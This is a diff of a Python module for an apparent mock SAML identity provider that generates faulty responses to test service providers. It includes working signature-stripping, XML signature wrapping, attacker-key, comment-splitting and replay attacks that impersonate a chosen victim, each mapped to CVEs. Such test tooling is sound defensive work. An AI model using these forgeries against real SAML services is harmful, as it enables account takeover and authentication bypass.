@@ -1,2 +1,975 @@
-"""The faults themselves (registered into `mock_idp.faults.REGISTRY` on import)."""
+"""The faults themselves, registered into `mock_idp.faults.REGISTRY` on import.
+
+Each fault names the catalogue checks it serves (``XSW-03``), spec clauses and CVEs in `refs`.
+Parameterised faults are factories: ``faults.get("clock-skew", seconds=-600)`` or the string
+``"clock-skew(seconds=-600)"``.
+"""
 from __future__ import annotations
+
+import copy
+import secrets
+from dataclasses import replace
+from datetime import datetime, timedelta, timezone
+from typing import Any, Callable
+
+from lxml import etree
+
+from .builder import (
+    DS,
+    SAML,
+    SAMLP,
+    STATUS_AUTHN_FAILED,
+    STATUS_RESPONDER,
+    ResponseSpec,
+    new_id,
+    q,
+    xml_time,
+)
+from .faults import Fault, FaultContext, SigningOptions, register, register_factory
+
+EVIL_RESPONSE_ID = "_evil_response_ID"
+EVIL_ASSERTION_ID = "_evil_assertion_ID"
+XSLT_NS = "http://www.w3.org/1999/XSL/Transform"
+XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"
+
+
+# ----------------------------------------------------------------------------- helpers
+def _iter_tag(el: etree._Element, *tags: str) -> list[etree._Element]:
+    """Descendants by tag, compared as strings: nodes that libxmlsec1 created are not always found
+    by lxml's tag-filtered iter()/find() (their names are not in the document's dictionary)."""
+    return [c for c in el.iter() if isinstance(c.tag, str) and c.tag in tags]
+
+
+def _assertion(root: etree._Element) -> etree._Element:
+    a = root.find(q(SAML, "Assertion"))
+    if a is None:
+        raise ValueError("the response has no Assertion to change")
+    return a
+
+
+def _sig(el: etree._Element) -> etree._Element | None:
+    tag = q(DS, "Signature")
+    return next((c for c in el if c.tag == tag), None)
+
+
+def _drop_sig(el: etree._Element) -> etree._Element:
+    s = _sig(el)
+    if s is not None:
+        el.remove(s)
+    return el
+
+
+def _victimize(assertion: etree._Element, victim: str | None) -> None:
+    """Make `assertion` speak for `victim`: NameID and every attribute value equal to the old NameID."""
+    if not victim:
+        return
+    nid = assertion.find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")
+    old = nid.text if nid is not None else None
+    if nid is not None:
+        nid.text = victim
+    if old:
+        for av in assertion.iter(q(SAML, "AttributeValue")):
+            if av.text == old:
+                av.text = victim
+
+
+def _attr_el(root: etree._Element, name: str | None) -> etree._Element:
+    attrs = list(_assertion(root).iter(q(SAML, "Attribute")))
+    if not attrs:
+        raise ValueError("the assertion has no attributes")
+    if name is None:
+        return attrs[0]
+    for a in attrs:
+        if a.get("Name") == name:
+            return a
+    raise ValueError(f"the assertion has no attribute {name!r}")
+
+
+def _pick_attr(
+    spec: ResponseSpec,
+    name: str | None,
+    prefer: tuple[str, ...] = ("Email", "email", "mail"),
+    where: Callable[[list[str]], bool] | None = None,
+) -> str:
+    attrs = spec.user.attributes
+    if name is not None:
+        if name not in attrs:
+            raise ValueError(f"user has no attribute {name!r}")
+        return name
+    if where is not None:
+        for k, v in attrs.items():
+            if where(v):
+                return k
+    for p in prefer:
+        if p in attrs:
+            return p
+    if not attrs:
+        raise ValueError("user has no attributes")
+    return next(iter(attrs))
+
+
+def _with_attrs(spec: ResponseSpec, attrs: dict[str, list[str]]) -> ResponseSpec:
+    return replace(spec, user=replace(spec.user, attributes=attrs))
+
+
+def _set_signing(**kw: Any) -> Callable[[SigningOptions, FaultContext], None]:
+    def apply(s: SigningOptions, ctx: FaultContext) -> None:
+        for k, v in kw.items():
+            setattr(s, k, v)
+
+    return apply
+
+
+def _scd(root: etree._Element) -> etree._Element:
+    return next(_assertion(root).iter(q(SAML, "SubjectConfirmationData")))
+
+
+def _conditions(root: etree._Element) -> etree._Element:
+    return _assertion(root).find(q(SAML, "Conditions"))
+
+
+def _nameid(root: etree._Element) -> etree._Element:
+    return _assertion(root).find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")
+
+
+def _reissued_cert(ctx: FaultContext, *, expired: bool) -> Any:
+    """A cert for the IdP's own key whose validity window lies in the past / the future."""
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.x509.oid import NameOID
+
+    from .keys import KeyPair
+
+    key = serialization.load_pem_private_key(ctx.idp.key.key_pem, password=None)
+    now = datetime.now(timezone.utc)
+    start = now - timedelta(days=400) if expired else now + timedelta(days=30)
+    end = now - timedelta(days=30) if expired else now + timedelta(days=400)
+    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, ctx.idp.entity_id[:64])])
+    cert = (
+        x509.CertificateBuilder()
+        .subject_name(name)
+        .issuer_name(name)
+        .public_key(key.public_key())
+        .serial_number(x509.random_serial_number())
+        .not_valid_before(start)
+        .not_valid_after(end)
+        .sign(key, hashes.SHA256())
+    )
+    return KeyPair(ctx.idp.key.key_pem, cert.public_bytes(serialization.Encoding.PEM))
+
+
+# ----------------------------------------------------------------------------- SIG / KEY / ALG
+register(Fault("sig-unsigned", "Neither the Response nor the Assertion is signed",
+               ("SIG-01", "SAML Prof 4.1.4.5", "CVE-2020-12676"),
+               signing=_set_signing(sign_response=False, sign_assertion=False)))
+register(Fault("sig-response-only", "Only the Response is signed; the Assertion is not",
+               ("POS-04", "SIG-03", "SAML Metadata 2.4.4 WantAssertionsSigned"),
+               signing=_set_signing(sign_response=True, sign_assertion=False)))
+register(Fault("sig-assertion-only", "Only the Assertion is signed; the Response is not",
+               ("POS-03", "SIG-04", "SAML Prof 4.1.4.5"),
+               signing=_set_signing(sign_response=False, sign_assertion=True)))
+
+
+@register_factory("sig-stripped", "Every ds:Signature removed after signing (signature exclusion); NameID optionally set to a victim",
+                  ("SIG-02", "CVE-2020-12676"), victim=None)
+def _sig_stripped(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        for s in _iter_tag(root, q(DS, "Signature")):
+            s.getparent().remove(s)
+        _victimize(_assertion(root), victim)
+
+    return Fault("", "", signed=signed)
+
+
+@register_factory("sig-tampered", "NameID changed after signing, signatures left as they were",
+                  ("SIG-05", "SAML Prof 4.1.4.3"), victim="victim@example.com")
+def _sig_tampered(victim: str) -> Fault:
+    return Fault("", "", signed=lambda root, ctx: _victimize(_assertion(root), victim))
+
+
+def _flip_sigvalue(root: etree._Element, ctx: FaultContext) -> None:
+    import base64
+
+    for sv in _iter_tag(root, q(DS, "SignatureValue")):
+        raw = bytearray(base64.b64decode("".join((sv.text or "").split())))
+        raw[-1] ^= 0x01
+        sv.text = base64.b64encode(bytes(raw)).decode()
+
+
+register(Fault("sig-bad-value", "One bit of every SignatureValue flipped (digests still correct)",
+               ("SIG-06", "XMLDSig core validation"), signed=_flip_sigvalue))
+
+
+def _empty_values(root: etree._Element, ctx: FaultContext) -> None:
+    for el in _iter_tag(root, q(DS, "SignatureValue"), q(DS, "DigestValue")):
+        el.text = None
+
+
+register(Fault("sig-empty-values", "Every SignatureValue and DigestValue emptied",
+               ("SIG-08",), signed=_empty_values))
+
+
+def _other_assertion_sig(root: etree._Element, ctx: FaultContext) -> None:
+    from .signing import sign
+
+    a = _assertion(root)
+    other = copy.deepcopy(a)
+    _drop_sig(other)
+    other.set("ID", new_id())
+    _victimize(other, "someone.else@example.com")
+    holder = etree.Element(q(SAMLP, "Response"), nsmap={"samlp": SAMLP, "saml": SAML})
+    holder.append(other)
+    s = sign(holder, other, ctx.signing.key or ctx.idp.key, algorithm=ctx.signing.algorithm, digest=ctx.signing.digest)
+    own = _sig(a)
+    if own is not None:
+        own.addprevious(s)
+        a.remove(own)
+    else:
+        a.find(q(SAML, "Issuer")).addnext(s)
+    ctx.notes["other_assertion_id"] = other.get("ID")
+
+
+register(Fault("sig-other-assertion",
+               "The Assertion carries a valid IdP signature made over a different assertion (other ID, other subject); Response unsigned",
+               ("SIG-11", "SAML Core 5.4.2"),
+               signing=_set_signing(sign_response=False, sign_assertion=True), signed=_other_assertion_sig))
+
+
+def _ref_to_response(root: etree._Element, ctx: FaultContext) -> None:
+    """Replace the Assertion's signature by one whose Reference is the Response's ID."""
+    from .signing import sign
+
+    a = _assertion(root)
+    own = _sig(a)
+    resp_sig = sign(root, root, ctx.signing.key or ctx.idp.key)
+    # move the Response's signature (Reference "#<response ID>") into the Assertion
+    root.remove(resp_sig)
+    if own is not None:
+        own.addprevious(resp_sig)
+        a.remove(own)
+    else:
+        a.find(q(SAML, "Issuer")).addnext(resp_sig)
+
+
+register(Fault("sig-reference-response",
+               "The Assertion's Signature references the Response's ID instead of the Assertion's",
+               ("SIG-11", "SAML Core 5.4.2"),
+               signing=_set_signing(sign_response=False, sign_assertion=True), signed=_ref_to_response))
+
+
+def _use_attacker(key_info: str, announce_genuine: bool = False) -> Callable[[SigningOptions, FaultContext], None]:
+    def apply(s: SigningOptions, ctx: FaultContext) -> None:
+        s.key = ctx.idp.attacker_key
+        s.key_info = key_info
+        s.key_info_cert = ctx.idp.key if announce_genuine else None
+
+    return apply
+
+
+register(Fault("sig-untrusted-cert", "Signed with a self-signed attacker key whose certificate is in KeyInfo",
+               ("SIG-09", "KEY-01", "CVE-2015-5372"), signing=_use_attacker("x509")))
+register(Fault("sig-attacker-keyvalue", "Signed with an attacker key given as a raw RSAKeyValue in KeyInfo (no X509)",
+               ("KEY-02", "CVE-2021-21239"), signing=_use_attacker("keyvalue")))
+register(Fault("sig-attacker-key-genuine-cert", "Signed with an attacker key while KeyInfo carries the genuine IdP certificate",
+               ("KEY-04",), signing=_use_attacker("x509", announce_genuine=True)))
+register(Fault("sig-no-keyinfo", "Signatures carry no KeyInfo (the SP must use the IdP's metadata key)",
+               ("KEY-01", "OWASP SAML: ignore KeyInfo"), signing=_set_signing(key_info="none")))
+
+
+def _expired_cert(expired: bool) -> Callable[[SigningOptions, FaultContext], None]:
+    def apply(s: SigningOptions, ctx: FaultContext) -> None:
+        s.key = _reissued_cert(ctx, expired=expired)
+
+    return apply
+
+
+register(Fault("cert-expired", "KeyInfo certificate (same IdP key) is expired; the signature still verifies with the trusted key",
+               ("KEY-09",), signing=_expired_cert(True)))
+register(Fault("cert-not-yet-valid", "KeyInfo certificate (same IdP key) is not valid yet; the signature still verifies",
+               ("KEY-09",), signing=_expired_cert(False)))
+register(Fault("alg-rsa-sha1", "RSA-SHA1 signatures with SHA-1 digests",
+               ("ALG-02", "ALG-03", "SAML2Int SDP-ALG01"), signing=_set_signing(algorithm="rsa-sha1", digest="sha1")))
+register(Fault("alg-sha1-digest", "SHA-1 DigestMethod under an RSA-SHA256 signature",
+               ("ALG-03",), signing=_set_signing(algorithm="rsa-sha256", digest="sha1")))
+
+
+def _xslt(root: etree._Element, ctx: FaultContext) -> None:
+    url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "xslt")
+    ctx.notes["oob_url"] = url
+    target = _sig(_assertion(root)) if root.find(q(SAML, "Assertion")) is not None else None
+    if target is None:
+        target = _sig(root)
+    if target is None:
+        raise ValueError("xslt-transform needs a signature (sign the assertion or the response)")
+    transforms = _iter_tag(target, q(DS, "Transforms"))[0]
+    t = etree.SubElement(transforms, q(DS, "Transform"), Algorithm=XSLT_TRANSFORM)
+    ss = etree.SubElement(t, q(XSLT_NS, "stylesheet"), nsmap={"xsl": XSLT_NS}, version="1.0")
+    tpl = etree.SubElement(ss, q(XSLT_NS, "template"), match="/")
+    etree.SubElement(tpl, q(XSLT_NS, "copy-of"), select=f"document('{url}')")
+
+
+register(Fault("xslt-transform",
+               "An XSLT Transform in the signature's Reference that fetches a loopback URL the IdP watches",
+               ("XML-08", "XML-10"), signed=_xslt))
+
+
+# ----------------------------------------------------------------------------- XSW (SAML Raider's eight)
+def _xsw_response(before_sig: bool) -> Callable[[str | None], Fault]:
+    def make(victim: str | None) -> Fault:
+        def signed(root: etree._Element, ctx: FaultContext) -> None:
+            sig = _sig(root)
+            if sig is None:
+                raise ValueError("XSW1/XSW2 need a signed Response")
+            clone = _drop_sig(copy.deepcopy(root))
+            if before_sig:
+                sig.addprevious(clone)
+            else:
+                sig.append(clone)
+            root.set("ID", EVIL_RESPONSE_ID)
+            a = root.find(q(SAML, "Assertion"))
+            if a is not None:
+                _victimize(a, victim)
+
+        return Fault("", "", signing=_set_signing(sign_response=True, sign_assertion=False), signed=signed)
+
+    return make
+
+
+def _assertion_signed() -> Callable[[SigningOptions, FaultContext], None]:
+    return _set_signing(sign_response=False, sign_assertion=True)
+
+
+def _xsw3(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        evil = _drop_sig(copy.deepcopy(a))
+        evil.set("ID", EVIL_ASSERTION_ID)
+        _victimize(evil, victim)
+        a.addprevious(evil)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+def _xsw4(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        evil = _drop_sig(copy.deepcopy(a))
+        evil.set("ID", EVIL_ASSERTION_ID)
+        _victimize(evil, victim)
+        root.append(evil)
+        evil.append(a)  # moves the signed original inside the evil copy
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+def _xsw5_6(inside_sig: bool) -> Callable[[str | None], Fault]:
+    def make(victim: str | None) -> Fault:
+        def signed(root: etree._Element, ctx: FaultContext) -> None:
+            a = _assertion(root)
+            copy_ = _drop_sig(copy.deepcopy(a))
+            a.set("ID", EVIL_ASSERTION_ID)
+            _victimize(a, victim)
+            if inside_sig:
+                _sig(a).append(copy_)
+            else:
+                root.append(copy_)
+
+        return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+    return make
+
+
+def _xsw7(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        ext = etree.Element(q(SAMLP, "Extensions"))
+        evil = _drop_sig(copy.deepcopy(a))
+        _victimize(evil, victim)
+        ext.append(evil)
+        a.addprevious(ext)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+def _xsw8(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        original = _drop_sig(copy.deepcopy(a))
+        _victimize(a, victim)
+        obj = etree.SubElement(_sig(a), q(DS, "Object"))
+        obj.append(original)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+_XSW = {
+    1: (_xsw_response(False), "Clone of the signed Response (no Signature) inside the Response's ds:Signature; outer Response renamed _evil_response_ID"),
+    2: (_xsw_response(True), "Clone of the signed Response (no Signature) just before the Response's ds:Signature; outer Response renamed _evil_response_ID"),
+    3: (_xsw3, "Unsigned evil Assertion copy (ID _evil_assertion_ID) inserted before the signed Assertion"),
+    4: (_xsw4, "Unsigned evil Assertion copy appended to the Response with the signed Assertion moved inside it"),
+    5: (_xsw5_6(False), "Signed Assertion renamed _evil_assertion_ID in place (keeps its Signature); unsigned original copy appended to the Response"),
+    6: (_xsw5_6(True), "Signed Assertion renamed _evil_assertion_ID in place; unsigned original copy placed inside its ds:Signature"),
+    7: (_xsw7, "samlp:Extensions holding an unsigned Assertion copy (same ID) inserted before the signed Assertion"),
+    8: (_xsw8, "Signed Assertion edited in place (same ID); unsigned original copy in a new ds:Object inside its ds:Signature"),
+}
+for _n, (_make, _desc) in _XSW.items():
+    register_factory(
+        f"xsw-{_n:02d}", _desc + " (victim: NameID of the evil copy; none = unchanged values)",
+        (f"XSW-{_n:02d}", f"SAML Raider applyXSW{_n}", "Somorovsky et al. 2012, On Breaking SAML"),
+        victim=None,
+    )(_make)
+
+
+@register_factory("two-assertions", "A second, unsigned Assertion (ID + '_attack', optional victim NameID) appended after the signed one",
+                  ("XSW-11", "XSW-13", "MAS-02", "CVE-2022-41912"), victim=None)
+def _two_assertions(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        b = _drop_sig(copy.deepcopy(a))
+        b.set("ID", a.get("ID") + "_attack")
+        _victimize(b, victim)
+        a.addnext(b)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+# ----------------------------------------------------------------------------- CMT: comments / text nodes
+def _split_point(text: str) -> int:
+    i = text.rfind(".")
+    return i if i > 0 else max(1, len(text) // 2)
+
+
+@register_factory("nameid-comment",
+                  "An XML comment inside NameID, inserted before signing so the signature stays valid (Duo 2018); "
+                  "with before/after the NameID becomes before<!---->after",
+                  ("CMT-01", "CVE-2017-11427", "CVE-2017-11428", "CVE-2018-0489"), before=None, after=None)
+def _nameid_comment(before: str | None, after: str | None) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        nid = _nameid(root)
+        text = nid.text or ""
+        b, a = (before or "", after or "") if (before or after) else (text[: _split_point(text)], text[_split_point(text):])
+        nid.text = b
+        c = etree.Comment("")
+        c.tail = a
+        nid.append(c)
+        ctx.notes["nameid_parts"] = (b, a)
+
+    return Fault("", "", tree=tree)
+
+
+@register_factory("attr-comment", "An XML comment inside every value of one attribute, before signing (signature valid)",
+                  ("CMT-02",), name=None)
+def _attr_comment(name: str | None) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        attr = _attr_el(root, name or _pick_attr(ctx.spec, None))
+        for av in attr.findall(q(SAML, "AttributeValue")):
+            text = av.text or ""
+            i = _split_point(text)
+            av.text = text[:i]
+            c = etree.Comment("")
+            c.tail = text[i:]
+            av.append(c)
+
+    return Fault("", "", tree=tree)
+
+
+def _cdata_split(xml: bytes, ctx: FaultContext) -> bytes:
+    nid = ctx.spec.user.name_id.encode()
+    import html
+
+    esc = html.escape(ctx.spec.user.name_id, quote=False).encode()
+    i = _split_point(ctx.spec.user.name_id)
+    head = html.escape(ctx.spec.user.name_id[:i], quote=False).encode()
+    tail = ctx.spec.user.name_id[i:].encode()
+    if b"]]>" in tail:
+        raise ValueError("NameID contains ]]>")
+    needle = b">" + esc + b"</saml:NameID>"
+    if needle not in xml:
+        raise ValueError("NameID text not found for the CDATA split")
+    del nid
+    return xml.replace(needle, b">" + head + b"<![CDATA[" + tail + b"]]></saml:NameID>", 1)
+
+
+register(Fault("nameid-cdata-split",
+               "NameID text split into a text node and a CDATA section (c14n merges them, so the signature stays valid)",
+               ("CMT-04",), bytes_=_cdata_split, stage_override="pre-sign"))
+
+
+def _pi_splice(root: etree._Element, ctx: FaultContext) -> None:
+    nid = _nameid(root)
+    text = nid.text or ""
+    i = text.find("@") if "@" in text else len(text) // 2
+    nid.text = None
+    pi = etree.ProcessingInstruction("p", text[:i])
+    pi.tail = text[i:]
+    nid.append(pi)
+
+
+register(Fault("nameid-pi-splice",
+               "Part of the signed NameID moved into a processing instruction after signing (a correct c14n breaks the digest)",
+               ("CMT-03",), signed=_pi_splice))
+
+
+# ----------------------------------------------------------------------------- TIME
+@register_factory("clock-skew", "The IdP's clock is off by N seconds (every instant shifted; negative = behind)",
+                  ("POS-07", "TIME-01", "TIME-02", "SAML2Int SDP-G01"), seconds=300)
+def _clock_skew(seconds: int) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, now=s.now + timedelta(seconds=int(seconds))))
+
+
+def _set_time(where: str, attr: str, delta_s: int | None) -> Callable[[etree._Element, FaultContext], None]:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        el = _conditions(root) if where == "conditions" else _scd(root)
+        if delta_s is None:
+            el.attrib.pop(attr, None)
+        else:
+            el.set(attr, xml_time(ctx.spec.now + timedelta(seconds=delta_s)))
+
+    return tree
+
+
+@register_factory("conditions-expired", "Conditions NotOnOrAfter lies N seconds in the past",
+                  ("TIME-02", "SAML Core 2.5.1.2"), seconds=600)
+def _cond_expired(seconds: int) -> Fault:
+    return Fault("", "", tree=_set_time("conditions", "NotOnOrAfter", -int(seconds)))
+
+
+@register_factory("conditions-not-yet-valid", "Conditions NotBefore lies N seconds in the future",
+                  ("TIME-01", "SAML Core 2.5.1.2"), seconds=600)
+def _cond_future(seconds: int) -> Fault:
+    return Fault("", "", tree=_set_time("conditions", "NotBefore", int(seconds)))
+
+
+@register_factory("scd-expired", "Bearer SubjectConfirmationData NotOnOrAfter lies N seconds in the past",
+                  ("TIME-03", "SAML Prof 4.1.4.3"), seconds=600)
+def _scd_expired(seconds: int) -> Fault:
+    return Fault("", "", tree=_set_time("scd", "NotOnOrAfter", -int(seconds)))
+
+
+@register_factory("scd-not-yet-valid", "Bearer SubjectConfirmationData carries a NotBefore N seconds in the future",
+                  ("TIME-05", "SAML Prof 4.1.4.2"), seconds=600)
+def _scd_future(seconds: int) -> Fault:
+    return Fault("", "", tree=_set_time("scd", "NotBefore", int(seconds)))
+
+
+register(Fault("scd-no-notonorafter", "Bearer SubjectConfirmationData without NotOnOrAfter",
+               ("TIME-04", "SAML Prof 4.1.4.2"), tree=_set_time("scd", "NotOnOrAfter", None)))
+
+
+def _inverted(root: etree._Element, ctx: FaultContext) -> None:
+    c = _conditions(root)
+    nb, na = c.get("NotBefore"), c.get("NotOnOrAfter")
+    c.set("NotBefore", na)
+    c.set("NotOnOrAfter", nb)
+
+
+register(Fault("conditions-inverted", "Conditions NotBefore and NotOnOrAfter swapped (empty window)",
+               ("TIME-06", "SAML Core 2.5.1.2"), tree=_inverted))
+
+
+def _no_conditions(root: etree._Element, ctx: FaultContext) -> None:
+    a = _assertion(root)
+    a.remove(a.find(q(SAML, "Conditions")))
+
+
+register(Fault("conditions-missing", "Assertion without Conditions", ("TIME-10", "SAML Prof 4.1.4.2"), tree=_no_conditions))
+
+
+@register_factory("long-lived", "Assertion issued N days ago and valid for 2N days (old IssueInstant, far NotOnOrAfter)",
+                  ("TIME-08",), days=29)
+def _long_lived(days: int) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(
+        s, now=s.now - timedelta(days=days), lifetime=int(timedelta(days=2 * days).total_seconds()),
+        scd_lifetime=int(timedelta(days=2 * days).total_seconds())))
+
+
+# ----------------------------------------------------------------------------- AUD / DST / IRT / ISS
+@register_factory("audience-wrong", "Audience is another SP's entityID", ("AUD-01", "SAML Core 2.5.1.4"),
+                  audience="https://other-sp.example.com/saml")
+def _aud_wrong(audience: str) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, audience=audience))
+
+
+register(Fault("audience-missing", "Conditions without AudienceRestriction", ("AUD-02", "SAML Prof 4.1.4.2"),
+               spec=lambda s, ctx: replace(s, audience=None)))
+
+
+def _aud_tree(mode: str, other: str = "https://other-sp.example.com/saml") -> Callable[[etree._Element, FaultContext], None]:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        ar = _conditions(root).find(q(SAML, "AudienceRestriction"))
+        aud = ar.find(q(SAML, "Audience"))
+        if mode == "extra":
+            extra = etree.Element(q(SAML, "Audience"))
+            extra.text = other
+            aud.addprevious(extra)
+        elif mode == "two":
+            ar2 = etree.Element(q(SAML, "AudienceRestriction"))
+            etree.SubElement(ar2, q(SAML, "Audience")).text = other
+            ar.addnext(ar2)
+        elif mode == "empty":
+            aud.text = " "
+
+    return tree
+
+
+register(Fault("audience-extra", "AudienceRestriction lists another SP first, then the right one",
+               ("AUD-03", "SAML Core 2.5.1.4"), tree=_aud_tree("extra")))
+register(Fault("audience-two-restrictions", "A second AudienceRestriction naming only another SP",
+               ("AUD-04",), tree=_aud_tree("two")))
+register(Fault("audience-empty", "Audience is whitespace only", ("AUD-06",), tree=_aud_tree("empty")))
+
+
+@register_factory("destination-wrong", "Response Destination is another URL", ("DST-01", "SAML Core 3.2.2"),
+                  url="https://other-sp.example.com/saml/acs")
+def _dest_wrong(url: str) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, destination=url))
+
+
+register(Fault("destination-missing", "Response without Destination", ("DST-02", "SAML Bind 3.5.5.2"),
+               spec=lambda s, ctx: replace(s, destination=None)))
+register(Fault("destination-empty", "Response Destination=\"\"", ("DST-03",),
+               spec=lambda s, ctx: replace(s, destination="")))
+
+
+@register_factory("recipient-wrong", "Bearer SubjectConfirmationData Recipient is another URL",
+                  ("DST-05", "SAML Prof 4.1.4.3"), url="https://other-sp.example.com/saml/acs")
+def _recipient_wrong(url: str) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, recipient=url))
+
+
+def _drop_recipient(root: etree._Element, ctx: FaultContext) -> None:
+    _scd(root).attrib.pop("Recipient", None)
+
+
+register(Fault("recipient-missing", "Bearer SubjectConfirmationData without Recipient", ("DST-06", "SAML Prof 4.1.4.2"),
+               tree=_drop_recipient))
+
+
+def _no_bearer(root: etree._Element, ctx: FaultContext) -> None:
+    sc = _scd(root).getparent()
+    sc.set("Method", "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches")
+
+
+register(Fault("no-bearer", "SubjectConfirmation Method is sender-vouches instead of bearer", ("DST-07", "SAML Prof 4.1.4.2"),
+               tree=_no_bearer))
+
+
+@register_factory("in-response-to-wrong", "InResponseTo (Response and SubjectConfirmationData) is a random ID",
+                  ("IRT-01", "SAML Core 3.2.2"), value=None)
+def _irt_wrong(value: str | None) -> Fault:
+    def spec(s: ResponseSpec, ctx: FaultContext) -> ResponseSpec:
+        v = value or new_id()
+        ctx.notes["in_response_to"] = v
+        return replace(s, in_response_to=v, scd_in_response_to=None)
+
+    return Fault("", "", spec=spec)
+
+
+register(Fault("in-response-to-missing", "No InResponseTo anywhere (the response looks unsolicited)",
+               ("IRT-05", "SAML Prof 4.1.4.2"), spec=lambda s, ctx: replace(s, in_response_to=None, scd_in_response_to=None)))
+register(Fault("in-response-to-empty", "InResponseTo=\"\" on the Response and SubjectConfirmationData", ("IRT-07",),
+               spec=lambda s, ctx: replace(s, in_response_to="", scd_in_response_to="")))
+
+
+@register_factory("scd-in-response-to-wrong", "Only the SubjectConfirmationData InResponseTo is wrong",
+                  ("IRT-02", "SAML Prof 4.1.4.3"), value=None)
+def _scd_irt(value: str | None) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, scd_in_response_to=value or new_id()))
+
+
+@register_factory("issuer-wrong", "Response and Assertion Issuer are another IdP's entityID (signature by the real IdP key)",
+                  ("ISS-01", "SAML Prof 4.1.4.2"), issuer="https://other-idp.example.com/idp")
+def _issuer_wrong(issuer: str) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, issuer=issuer, assertion_issuer=issuer))
+
+
+@register_factory("assertion-issuer-mismatch", "Assertion Issuer differs from the Response Issuer",
+                  ("ISS-02",), issuer="https://other-idp.example.com/idp")
+def _aiss(issuer: str) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, assertion_issuer=issuer))
+
+
+def _no_assertion_issuer(root: etree._Element, ctx: FaultContext) -> None:
+    a = _assertion(root)
+    a.remove(a.find(q(SAML, "Issuer")))
+
+
+register(Fault("assertion-issuer-missing", "Assertion without Issuer", ("ISS-03", "SAML Core 2.3.3"), tree=_no_assertion_issuer))
+
+
+# ----------------------------------------------------------------------------- RPL
+@register_factory("replay", "Send again, byte for byte, an earlier response (by response_id; default the last one for this SP)",
+                  ("RPL-01", "RPL-05", "SAML Prof 4.1.4.5"), response_id=None)
+def _replay(response_id: str | None) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        idp = ctx.idp
+        if response_id:
+            old = idp.replay(response_id)
+        else:
+            sp_id = ctx.sp.entity_id if ctx.sp else None
+            earlier = [r for r in idp.issued if r.sp_entity_id == sp_id]
+            if not earlier:
+                raise ValueError("replay: nothing was issued to this SP yet")
+            old = earlier[-1]
+        ctx.notes["replayed_response_id"] = old.response_id
+        return old.xml
+
+    return Fault("", "", bytes_=b)
+
+
+@register_factory("assertion-id-reuse", "A fresh Response re-using an earlier Assertion ID (default: the last one sent to this SP)",
+                  ("RPL-02",), assertion_id=None)
+def _aid_reuse(assertion_id: str | None) -> Fault:
+    def spec(s: ResponseSpec, ctx: FaultContext) -> ResponseSpec:
+        aid = assertion_id
+        if not aid:
+            sp_id = ctx.sp.entity_id if ctx.sp else None
+            earlier = [r for r in ctx.idp.issued if r.sp_entity_id == sp_id and r.assertion_id]
+            if not earlier:
+                raise ValueError("assertion-id-reuse: nothing was issued to this SP yet")
+            aid = earlier[-1].assertion_id
+        return replace(s, assertion_id=aid)
+
+    return Fault("", "", spec=spec)
+
+
+# ----------------------------------------------------------------------------- STA / MAS
+@register_factory("status", "Non-Success status (top-level code + second-level code), no assertion unless with_assertion",
+                  ("POS-10", "STA-01", "STA-02", "SAML Core 3.2.2.2"),
+                  code=STATUS_RESPONDER, subcode=STATUS_AUTHN_FAILED, with_assertion=False)
+def _status(code: str, subcode: str | None, with_assertion: bool) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(
+        s, status_code=code, status_subcode=subcode or None, include_assertion=bool(with_assertion)))
+
+
+register(Fault("zero-assertions", "Status Success but no Assertion", ("MAS-01",),
+               spec=lambda s, ctx: replace(s, include_assertion=False)))
+
+
+def _remove_child(tag: str) -> Callable[[etree._Element, FaultContext], None]:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        for el in a.findall(tag):
+            a.remove(el)
+
+    return tree
+
+
+register(Fault("no-authn-statement", "Assertion without AuthnStatement", ("MAS-04",), tree=_remove_child(q(SAML, "AuthnStatement"))))
+register(Fault("subject-missing", "Assertion without Subject", ("MAS-06",), tree=_remove_child(q(SAML, "Subject"))))
+register(Fault("attribute-statement-missing", "Assertion without AttributeStatement", ("ATTR-02",),
+               tree=_remove_child(q(SAML, "AttributeStatement"))))
+
+
+# ----------------------------------------------------------------------------- NID
+register(Fault("nameid-missing", "Subject without NameID", ("NID-01",),
+               tree=lambda root, ctx: _nameid(root).getparent().remove(_nameid(root))))
+
+
+def _nameid_empty(root: etree._Element, ctx: FaultContext) -> None:
+    _nameid(root).text = None
+
+
